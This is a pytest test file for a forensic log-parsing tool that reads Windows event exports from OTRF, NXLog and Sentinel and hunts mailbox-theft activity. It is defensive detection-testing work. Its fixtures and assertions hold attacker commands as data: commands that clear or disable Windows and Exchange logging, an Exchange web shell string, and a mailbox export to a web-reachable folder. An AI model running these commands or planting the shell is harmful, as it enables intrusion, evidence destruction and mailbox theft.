"""Windows events as responders receive them outside EVTX: flat NDJSON (OTRF/Mordor, NXLog) and Sentinel rows.

The OTRF zips and the Sentinel WindowsEvents file are real samples (public
corpus); the fixtures under tests/fixtures/windows hold lines taken unchanged
from those zips, and crafted records in the documented forms of the others.
"""

import io
import json
import os
import time
import zipfile
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from mailhunt.cli import app
from mailhunt.sources import SNIFF_BYTES, ReadContext, identify, read_events
from mailhunt.sources.windows_rendered import cmdlet_from_message
from tests.corpus import PUBLIC

FIXTURES = Path(__file__).parent / "fixtures" / "windows"
SENTINEL = FIXTURES / "sentinel"
OTRF = PUBLIC / "otrf-security-datasets"
PSH_ZIP = OTRF / "psh_disable_eventlog_service_startuptype_modification.zip"
REG_ZIP = OTRF / "reg_cmd_process_commandline_logging_disabled.zip"
GOLDEN_SAML = OTRF / "GoldenSAMLADFSMailAccess_WindowsEvents.json"
needs_public = pytest.mark.skipif(not OTRF.is_dir(), reason="shared public corpus not present")


def read(data: bytes, name: str = "evidence", hints: dict | None = None) -> tuple[list[dict], ReadContext, str]:
    source = identify(data[:SNIFF_BYTES])
    assert source is not None, f"{name} not recognized"
    ctx = ReadContext(name, "0" * 64, dict(hints or {}))
    tables = list(read_events(source, io.BufferedReader(io.BytesIO(data)), ctx))
    rows = pa.concat_tables(tables).to_pylist() if tables else []
    return rows, ctx, source.name


def zip_member(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        [member] = [n for n in archive.namelist() if not n.startswith("__MACOSX/")]
        return archive.read(member)


def one(rows: list[dict], **columns) -> dict:
    found = [r for r in rows if all(r[k] == v for k, v in columns.items())]
    assert len(found) == 1, f"{len(found)} events match {columns}"
    return found[0]


def labels(row: dict) -> dict:
    return dict(row["labels"] or [])


# ---------------------------------------------------------------- flat NDJSON: OTRF real samples


def test_otrf_lines_become_the_events_of_their_evtx_records():
    rows, ctx, name = read((FIXTURES / "otrf_reg_cmd_process_commandline_logging_disabled.ndjson").read_bytes())
    assert name == "windows_flat_ndjson" and ctx.records == 6 and ctx.rejected == 0 and len(rows) == 6
    command = ("reg  add HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit "
               "/t REG_DWORD /v ProcessCreationIncludeCmdLine_Enabled /d 0 /f")
    security = one(rows, **{"event.code": "4688"})
    assert security["event.action"] == "process-created" and security["event.dataset"] == "windows.security"
    assert security["process.command_line"] == command and security["process.name"] == "reg.exe"
    assert (security["user.name"], security["user.domain"]) == ("pedro-admin", "PEDRO-COMPUTER")
    assert security["process.parent.executable"] == "C:\\Windows\\System32\\cmd.exe"
    assert security["host.name"] == "pedro-computer" and security["winlog.channel"] == "Security"
    sysmon = one(rows, **{"event.code": "1"})
    assert sysmon["event.dataset"] == "windows.sysmon" and sysmon["event.action"] == "process-created"
    assert sysmon["process.command_line"] == command and sysmon["process.pid"] == 4964
    assert (sysmon["user.name"], sysmon["user.domain"]) == ("pedro-admin", "PEDRO-COMPUTER")
    assert sysmon["process.parent.command_line"] == "C:\\Windows\\system32\\cmd.exe"
    registry = one(rows, **{"event.code": "13"})
    assert registry["winlog.channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert "ProcessCreationIncludeCmdLine_Enabled" in registry["event.original"]
    # System 104 in the flat form has only its rendered text: the cleared channel is taken from it
    cleared = sorted(labels(r)["cleared_channel"] for r in rows if r["event.code"] == "104")
    assert cleared == ["Microsoft-Windows-Kernel-IO/Operational", "Microsoft-Windows-PowerShell/Operational"]
    assert all(r["event.action"] == "log-cleared" and r["event.provider"] == "Microsoft-Windows-Eventlog"
               for r in rows if r["event.code"] == "104")
    # TimeCreated is written with a Z: read as UTC, as the format says
    assert str(security["@timestamp"]) == "2022-08-18 05:35:58.802000"
    assert labels(security) == {"time_zone_source": "recorded"}


def test_otrf_powershell_and_service_records():
    rows, ctx, _ = read((FIXTURES / "otrf_psh_disable_eventlog_service.ndjson").read_bytes())
    assert ctx.records == 8 and ctx.rejected == 0 and len(rows) == 8
    service = one(rows, **{"event.code": "7040"})
    assert (service["event.dataset"], service["winlog.channel"], service["event.provider"]) == (
        "windows.system", "System", "Service Control Manager")
    assert "auto start to disabled" in json.loads(service["event.original"])["Message"]
    # PowerShell 800 carries its data only as rendered text: the pipeline details are taken from it
    pipeline = [r for r in rows if r["event.code"] == "800"]
    assert [r["event.action"] for r in pipeline] == ["Set-Service", "Invoke-Expression"]
    assert dict(pipeline[0]["params"]) == {"name": "EventLog", "startuptype": "Disabled"}
    assert dict(pipeline[1]["params"]) == {"command": "Set-Service -Name EventLog -StartUpType Disabled"}
    assert all((r["user.name"], r["user.domain"]) == ("pedro", "PEDRO01") for r in pipeline)
    assert pipeline[0]["process.command_line"] == "C:\\Users\\IT01-Pedro\\Downloads\\payload.exe"
    module = one(rows, **{"event.code": "4103"})
    assert module["event.action"] == "Set-Service" and dict(module["params"])["startuptype"] == "Disabled"
    block = one(rows, **{"event.code": "4104"})
    assert block["powershell.file.script_block_text"] == "Set-Service -Name EventLog -StartUpType Disabled"
    change = one(rows, **{"event.code": "4657"})
    assert "\\Services\\EventLog" in json.loads(change["event.original"])["ObjectName"]


@needs_public
@pytest.mark.parametrize(("path", "records", "offset"), [(PSH_ZIP, 6563, "+7h00"), (REG_ZIP, 8705, "+19h00")],
                         ids=["psh", "reg"])
def test_otrf_zips_read_whole_and_the_clock_disagreement_is_said(path, records, offset):
    rows, ctx, name = read(zip_member(path), path.name)
    assert name == "windows_flat_ndjson" and ctx.records == records and ctx.rejected == 0
    assert len(rows) == records  # no EventRecordID in these files: no gaps, one event a line
    assert {r["event.dataset"] for r in rows} >= {"windows.security", "windows.sysmon", "windows.powershell",
                                                  "windows.system"}
    # Sysmon's own UtcTime says the Z of TimeCreated is not UTC in these files; times are kept, the input noted
    [note] = ctx.notes
    assert f"by {offset}" in note and "kept as TimeCreated states them" in note


def test_tz_of_the_process_changes_nothing(monkeypatch):
    data = (FIXTURES / "otrf_psh_disable_eventlog_service.ndjson").read_bytes()
    expected = [r["@timestamp"] for r in read(data)[0]]
    nx = (FIXTURES / "nxlog_eventlog.ndjson").read_bytes()
    expected_nx = [r["@timestamp"] for r in read(nx, hints={"timezone": "Europe/Berlin"})[0]]
    csv = (SENTINEL / "securityevent_portal_export.csv").read_bytes()
    expected_csv = [r["@timestamp"] for r in read(csv)[0]]
    try:
        for zone in ("Asia/Tokyo", "America/Los_Angeles"):
            monkeypatch.setenv("TZ", zone)
            time.tzset()
            assert [r["@timestamp"] for r in read(data)[0]] == expected
            assert [r["@timestamp"] for r in read(nx, hints={"timezone": "Europe/Berlin"})[0]] == expected_nx
            assert [r["@timestamp"] for r in read(csv)[0]] == expected_csv
    finally:
        monkeypatch.undo()
        time.tzset()
    assert os.environ.get("TZ") != "Asia/Tokyo"


# ---------------------------------------------------------------- flat: one definition of the mapping


def _evtx_dump_line(flat: dict, data) -> bytes:
    record = {"Event": {"System": {
        "Provider": {"#attributes": {"Name": flat["SourceName"]}}, "EventID": flat["EventID"],
        "TimeCreated": {"#attributes": {"SystemTime": flat["TimeCreated"]}}, "EventRecordID": None,
        "Channel": flat["Channel"], "Computer": flat["Hostname"]}, "EventData": data}}
    return json.dumps(record).encode() + b"\n"


MAPPED = ("@timestamp", "event.action", "event.outcome", "event.provider", "event.dataset", "event.code", "user.name",
          "user.domain", "user.id", "user.type", "user.target.name", "host.name", "process.pid", "process.name",
          "process.executable", "process.command_line", "process.parent.name", "process.parent.executable",
          "process.parent.command_line", "powershell.file.script_block_text", "file.path", "rule.name", "params",
          "parameters", "winlog.channel")


def test_flat_lines_map_as_their_evtx_dump_form_does():
    """The flat reader adds no mapping of its own: each line gives the columns its EVTX record gives."""
    lines = [json.loads(line) for name in ("otrf_reg_cmd_process_commandline_logging_disabled.ndjson",
                                           "otrf_psh_disable_eventlog_service.ndjson")
             for line in (FIXTURES / name).read_text().splitlines()]
    envelope = {"SourceName", "ProviderGuid", "Level", "Keywords", "Channel", "Hostname", "TimeCreated", "@timestamp",
                "EventID", "Message", "Task"}
    compared = 0
    for flat in lines:
        if flat["EventID"] in (104, 800):
            continue  # their data is recovered from the rendered text: compared below
        data = {k: v for k, v in flat.items() if k not in envelope}
        flat_rows, _, _ = read(json.dumps(flat).encode() + b"\n")
        dump_rows, _, name = read(_evtx_dump_line(flat, data))
        assert name == "evtx_dump_jsonl"
        assert [{k: r[k] for k in MAPPED} for r in flat_rows] == [{k: r[k] for k in MAPPED} for r in dump_rows]
        compared += 1
    assert compared == 10
    # MSExchange Management: the rendered text gives what the EVTX record's Data items [0] and [1] give
    cmdlet = json.loads((FIXTURES / "flat_msexchange_management.ndjson").read_text().splitlines()[1])
    cmdlet_name, parameters = cmdlet_from_message(cmdlet["Message"])
    flat_rows, _, _ = read(json.dumps(cmdlet).encode() + b"\n")
    dump_rows, _, _ = read(_evtx_dump_line(cmdlet, {"Data": {"#text": [cmdlet_name, parameters]}}))
    assert [{k: r[k] for k in MAPPED} for r in flat_rows] == [{k: r[k] for k in MAPPED} for r in dump_rows]
    assert flat_rows[0]["event.action"] == "New-MailboxExportRequest"


# ---------------------------------------------------------------- MSExchange Management rendered text


def test_cmdlet_text_keeps_quotes_inside_values_and_reads_the_sic_spelling():
    rows, ctx, _ = read((FIXTURES / "flat_msexchange_management.ndjson").read_bytes(), "flat.ndjson")
    oab = one(rows, **{"event.action": "Set-OabVirtualDirectory"})
    assert oab["event.dataset"] == "windows.msexchange_management" and oab["event.outcome"] == "success"
    assert dict(oab["params"]) == {
        "externalurl": "http://ex01.corp.example/owa/auth/x.aspx#<script language='JScript' runat='server'>"
                       "eval(Request['p'])</script>",
        "identity": "OAB (Default Web Site)"}
    assert oab["parameters"].endswith('-Identity "OAB (Default Web Site)"'), "the template's final period is not kept"
    export = one(rows, **{"event.action": "New-MailboxExportRequest"})
    assert dict(export["params"])["contentfilter"] == "(Subject -like '*invoice*') -and (Received -gt '10/01/2026')"
    assert dict(export["params"])["filepath"] == "\\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\kim.pst"
    assert export["user.target.name"] == "kim.akers@corp.example"
    removal = one(rows, **{"event.action": "Remove-MailboxExportRequest"})
    assert dict(removal["params"]) == {"identity": "kim.akers@corp.example\\MailboxExport", "confirm": "False"}
    failed = one(rows, **{"event.action": "New-InboxRule"})
    assert failed["event.outcome"] == "failure" and failed["rule.name"] == "."
    assert dict(failed["params"])["deletemessage"] == "True"
    # a line cut short and a time without a zone: each counted and rejected with file and line, the rest kept
    assert ctx.records == 6 and ctx.rejected == 2 and len(rows) == 4
    assert [str(r) for r in ctx.rejections] == [
        "flat.ndjson:line 5: not valid JSON (unexpected end of data: line 1 column 248 (char 247)); truncated line?",
        ("flat.ndjson:line 6: not a Windows event record: TimeCreated '2026-10-14 09:45:10' has no time zone; "
        "give the hint timezone=... (the collector's zone)")]


@pytest.mark.parametrize(("message", "expected"), [
    ('Cmdlet suceeded. Cmdlet Get-Mailbox, parameters -Identity "a.".', ("Get-Mailbox", '-Identity "a."')),
    ("Cmdlet succeeded. Cmdlet Set-Mailbox, parameters -Identity kim -AuditEnabled $false.",
     ("Set-Mailbox", "-Identity kim -AuditEnabled $false")),
    ("Cmdlet failed. Cmdlet Get-ExchangeServer, parameters .", ("Get-ExchangeServer", "")),
    ("Cmdlet suceeded. Cmdlet New-InboxRule, parameters -Name \"a, b\"\r\n-From x.", ("New-InboxRule",
                                                                                      "-Name \"a, b\"\r\n-From x")),
    ("The Windows Event Log service was stopped.", None),
    ("Cmdlet suceeded. Cmdlet Get-Mailbox parameters -Identity a.", None),
])
def test_cmdlet_from_message(message, expected):
    assert cmdlet_from_message(message) == expected


def test_nxlog_local_times_need_the_collectors_zone():
    data = (FIXTURES / "nxlog_eventlog.ndjson").read_bytes()
    rows, ctx, name = read(data, "nxlog.json")
    assert name == "windows_flat_ndjson" and rows == [] and ctx.records == 2 and ctx.rejected == 2
    assert "EventTime '2026-10-14 11:50:02' has no time zone" in ctx.rejections[0].reason
    rows, ctx, _ = read(data, "nxlog.json", {"timezone": "Europe/Berlin"})
    assert ctx.rejected == 0 and len(rows) == 2
    process = one(rows, **{"event.code": "4688"})
    assert str(process["@timestamp"]) == "2026-10-14 09:50:02"  # CEST is UTC+2
    assert labels(process)["time_zone_source"] == "hint Europe/Berlin" and labels(process)["time_field"] == "EventTime"
    assert process["winlog.record_id"] == 918273 and process["process.command_line"] == 'wevtutil cl "MSExchange Management"'
    assert (process["user.name"], process["user.domain"]) == ("jsmith", "CORP")
    service = one(rows, **{"event.code": "7040"})
    assert (service["user.name"], service["user.domain"], service["user.id"]) == (
        "jsmith", "CORP", "S-1-5-21-3623811015-3361044348-30300820-1013")  # AccountName/Domain/UserID of NXLog
    assert service["winlog.record_id"] == 44120 and service["event.dataset"] == "windows.system"


# ---------------------------------------------------------------- Sentinel / Log Analytics rows


@needs_public
def test_sentinel_windowsevents_real_sample():
    rows, ctx, name = read(GOLDEN_SAML.read_bytes(), GOLDEN_SAML.name)
    assert name == "sentinel_windows" and ctx.records == 38 and ctx.rejected == 0 and len(rows) == 38
    assert ctx.notes == []  # the Sysmon record's UtcTime agrees with TimeGenerated
    by_table: dict[str, int] = {}
    for row in rows:
        by_table[labels(row)["sentinel_table"]] = by_table.get(labels(row)["sentinel_table"], 0) + 1
    assert by_table == {"SecurityEvent": 35, "Event": 2, "unknown": 1}
    assert sum(r["event.code"] == "4624" for r in rows) == 28
    access = [r for r in rows if r["event.code"] == "4662"]
    assert len(access) == 5 and {(r["user.name"], r["user.domain"]) for r in access} == {("wardog", "SIMULANDLABS")}
    assert all(r["event.dataset"] == "windows.security" and r["host.name"] == "DC01.simulandlabs.com" for r in access)
    pipe = one(rows, **{"event.code": "18"})  # a Sysmon record in the Event table, its fields as columns
    assert pipe["event.dataset"] == "windows.sysmon" and pipe["process.pid"] == 5692
    assert pipe["process.executable"] == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    assert (pipe["user.name"], pipe["user.domain"]) == ("SYSTEM", "NT AUTHORITY")
    audit = one(rows, **{"event.code": "33205"})
    assert audit["winlog.channel"] == "Application" and audit["user.name"] is None  # UserName N/A names no one
    assert min(r["@timestamp"] for r in rows).isoformat() == "2021-08-02T13:05:32.770000"


def test_sentinel_securityevent_portal_csv():
    rows, ctx, name = read((SENTINEL / "securityevent_portal_export.csv").read_bytes(), "export.csv")
    assert name == "sentinel_windows_csv" and ctx.records == 4 and len(rows) == 3
    assert [str(r) for r in ctx.rejections] == ["export.csv:line 4: 4 fields where the header has 32"]
    clear = one(rows, **{"process.command_line": "wevtutil cl Security"})
    assert clear["event.action"] == "process-created" and clear["process.name"] == "wevtutil.exe"
    assert (clear["user.name"], clear["user.domain"]) == ("jsmith", "CORP")
    assert str(clear["@timestamp"]) == "2026-10-14 09:50:02.118000"  # "10/14/2026, 9:50:02.118 AM" under [UTC]
    assert labels(clear)["time_zone_source"] == "table_defined_utc"
    audit_off = one(rows, **{"process.name": "powershell.exe"})
    assert "-AuditEnabled $false" in audit_off["process.command_line"]
    cleared = one(rows, **{"event.code": "1102"})  # its account only in the EventData XML's UserData
    assert cleared["event.action"] == "audit-log-cleared" and cleared["user.name"] == "jsmith"
    assert cleared["user.id"] == "S-1-5-21-3623811015-3361044348-30300820-1013"


def test_sentinel_csv_shown_in_local_time_needs_the_zone():
    text = (SENTINEL / "securityevent_portal_export.csv").read_text(encoding="utf-8-sig")
    local = text.replace("TimeGenerated [UTC]", "TimeGenerated [Local Time]").encode()
    rows, ctx, _ = read(local, "local.csv")
    assert rows == [] and ctx.rejected == 4
    assert "in the portal's [Local Time] display; give the hint timezone" in ctx.rejections[0].reason
    rows, ctx, _ = read(local, "local.csv", {"timezone": "-04:00"})
    assert str(rows[0]["@timestamp"]) == "2026-10-14 13:50:02.118000"
    assert labels(rows[0])["time_zone_source"] == "hint -04:00"


def test_sentinel_event_rows_msexchange_and_system():
    rows, ctx, name = read((SENTINEL / "event_rows.ndjson").read_bytes())
    assert name == "sentinel_windows" and ctx.records == 4 and ctx.rejected == 0
    export = one(rows, **{"event.action": "New-MailboxExportRequest"})
    assert export["event.dataset"] == "windows.msexchange_management" and export["user.name"] == "CORP\\jsmith"
    assert dict(export["params"])["contentfilter"] == "(Subject -like '*payroll*')"
    assert (export["process.pid"], export["process.name"]) == (4120, "w3wp#MSExchangePowerShellAppPool")
    oab = one(rows, **{"event.action": "Set-OabVirtualDirectory"})  # only RenderedDescription: parsed from it
    assert dict(oab["params"])["identity"] == "OAB (Default Web Site)" and oab["user.name"] is None
    service = one(rows, **{"event.code": "7040"})
    assert service["winlog.channel"] == "System" and service["user.name"] == "jsmith"
    cleared = one(rows, **{"event.code": "104"})
    assert cleared["event.action"] == "log-cleared" and labels(cleared)["cleared_channel"] == "MSExchange Management"


def test_sentinel_windowsevent_az_cli_array():
    rows, ctx, name = read((SENTINEL / "windowsevent_az_query.json").read_bytes(), "az.json")
    assert name == "sentinel_windows_array" and ctx.records == 4 and len(rows) == 3
    assert [str(r) for r in ctx.rejections] == [
        ("az.json:record 4: a row of table 'SigninLogs', not of SecurityEvent, Event, WindowsEvent; "
        "not read by this reader")]
    block = one(rows, **{"event.code": "4104"})
    assert block["powershell.file.script_block_text"].startswith("Clear-EventLog -LogName 'Windows PowerShell'")
    assert block["winlog.record_id"] == 88231 and block["user.id"] == "S-1-5-21-3623811015-3361044348-30300820-1013"
    process = one(rows, **{"event.code": "1"})
    assert process["process.command_line"] == 'wevtutil sl "MSExchange Management" /e:false'
    assert (process["user.name"], process["user.domain"], process["user.id"]) == ("jsmith", "CORP", None)
    registry = one(rows, **{"event.code": "13"})
    assert "EnableScriptBlockLogging" in registry["event.original"] and registry["process.name"] == "regedit.exe"


OTHER_SENTINEL = [OTRF / "GoldenSAMLADFSMailAccess_AADAuditEvents.json",
                  OTRF / "GoldenSAMLADFSMailAccess_OfficeActivityEvents.json",
                  OTRF / "GoldenSAMLADFSMailAccess_Microsoft365DefenderEvents.json",
                  OTRF / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
                  Path(__file__).parent / "fixtures" / "entra" / "signins.json",
                  Path(__file__).parent / "fixtures" / "entra" / "signins.csv",
                  Path(__file__).parent / "fixtures" / "m365" / "sentinel_officeactivity_array.json"]


@pytest.mark.parametrize("path", [p for p in OTHER_SENTINEL if p.exists()], ids=lambda p: p.name)
def test_other_tables_are_left_to_their_readers(path):
    source = identify(path.read_bytes()[:SNIFF_BYTES])
    assert source is None or not source.name.startswith(("sentinel_windows", "windows_flat"))


# ---------------------------------------------------------------- a hunt over an OTRF zip


@needs_public
def test_hunt_over_an_otrf_zip_runs_end_to_end(tmp_path):
    out = tmp_path / "case"
    result = CliRunner().invoke(app, ["hunt", str(REG_ZIP), "--out", str(out)])
    assert result.exit_code == 0, result.output
    document = json.loads((out / "findings.json").read_text())
    [source] = [s for s in document["inputs"] if s["format"] == "windows_flat_ndjson"]
    assert source["records"] == 8705 and source["rejected"] == 0
    cleared = [e for f in document["findings"] if "Windows Event Log Cleared" in {r["title"] for r in f["rules"]}
               for e in f["evidence"] if e["action"] == "log-cleared"]
    assert len(cleared) == 2, "the two System 104 log clears"


@pytest.mark.parametrize("record_id", ['"\\u00b2"', '"\\u0661\\u0662"', '"99999999999999999999"', '"-3"', "true"])
def test_a_record_number_that_is_no_number_is_left_out_not_fatal(record_id):
    """str.isdigit accepts superscripts and other scripts' digits, which int() refuses or reads as a number."""
    line = (b'{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},'
            b'"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2026-10-14T09:51:07.002Z"}},'
            b'"EventRecordID":' + record_id.encode() + b',"Channel":"Security","Computer":"EXCH01"},'
            b'"UserData":{"LogFileCleared":{"SubjectUserName":"jsmith","SubjectDomainName":"CORP"}}}}\n')
    rows, ctx, name = read(line)
    assert name == "evtx_dump_jsonl" and ctx.rejected == 0
    [row] = rows
    assert row["winlog.record_id"] is None and row["event.action"] == "audit-log-cleared"


def test_rendered_log_clears_and_pipelines_give_their_data_back():
    from mailhunt.sources.windows_rendered import recovered_data

    audit = ("The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-2-3-1013\r\n\tAccount Name:\tjsmith"
             "\r\n\tDomain Name:\tCORP\r\n\tLogon ID:\t0x5A3F21")
    line = {"SourceName": "Microsoft-Windows-Eventlog", "Channel": "Security", "Hostname": "EXCH01",
            "TimeCreated": "2026-10-14T09:51:07.002Z", "EventID": 1102, "Message": audit, "Task": "104"}
    [row], ctx, _ = read(json.dumps(line).encode() + b"\n")
    assert row["event.action"] == "audit-log-cleared" and ctx.rejected == 0
    assert (row["user.name"], row["user.domain"], row["user.id"]) == ("jsmith", "CORP", "S-1-5-21-1-2-3-1013")
    # the actor's command line may hold the template's own markers: the first of each splits, nothing hangs
    marker = "\r\n\r\nContext Information: \r\n"
    text = "Pipeline execution details for command line: x" + ". " + marker * 200_000
    assert recovered_data("Windows PowerShell", "800", "PowerShell", text) is None
    text = ("Pipeline execution details for command line: Write-Host 'a. \r\n\r\nContext Information: '. "
            + marker + "\tUserId=CORP\\jsmith\r\n\r\nDetails: \r\nCommandInvocation(Write-Host): \"Write-Host\"")
    command, context, details = recovered_data("Windows PowerShell", "800", "PowerShell", text)["EventData"]["Data"]
    assert command == "Write-Host 'a. \r\n\r\nContext Information: '"  # not the marker: no line end after it
    assert context == "\tUserId=CORP\\jsmith"
    assert details == 'CommandInvocation(Write-Host): "Write-Host"'
    assert recovered_data("System", "104", "Service Control Manager", "The System log file was cleared.") is None


def test_cmdlet_rules_match_cmdlets_read_from_rendered_text(tmp_path):
    from mailhunt.config import Config
    from mailhunt.hunt import hunt

    result = hunt([FIXTURES / "flat_msexchange_management.ndjson"], tmp_path / "case", Config())
    indicators = {f.indicator for f in result.findings}
    assert {"mailbox_export", "export_request_removed", "inbox_rule_hiding", "export_then_deletion"} <= indicators


def test_a_zoneless_eventtime_gives_way_to_a_zoned_timestamp_and_says_so():
    """Older OTRF datasets went through NXLog and a shipper: EventTime without a zone, @timestamp with a Z."""
    line = {"SourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security", "Hostname": "WORKSTATION5",
            "EventTime": "2020-09-21 11:59:35", "@timestamp": "2020-09-21T18:59:36.214Z", "EventID": 4688,
            "SubjectUserName": "pgustavo", "SubjectDomainName": "THESHIRE", "CommandLine": "wevtutil cl Security",
            "NewProcessName": "C:\\Windows\\System32\\wevtutil.exe"}
    data = json.dumps(line).encode() + b"\n"
    [row], ctx, _ = read(data)
    assert str(row["@timestamp"]) == "2020-09-21 18:59:36.214000"
    assert labels(row) == {"time_zone_source": "recorded", "time_field": "@timestamp"}
    [note] = ctx.notes
    assert "timed by their @timestamp" in note and "hint timezone" in note
    [row], ctx, _ = read(data, hints={"timezone": "America/Los_Angeles"})
    assert str(row["@timestamp"]) == "2020-09-21 18:59:35" and labels(row)["time_field"] == "EventTime"
    assert ctx.notes == [] and row["process.command_line"] == "wevtutil cl Security"
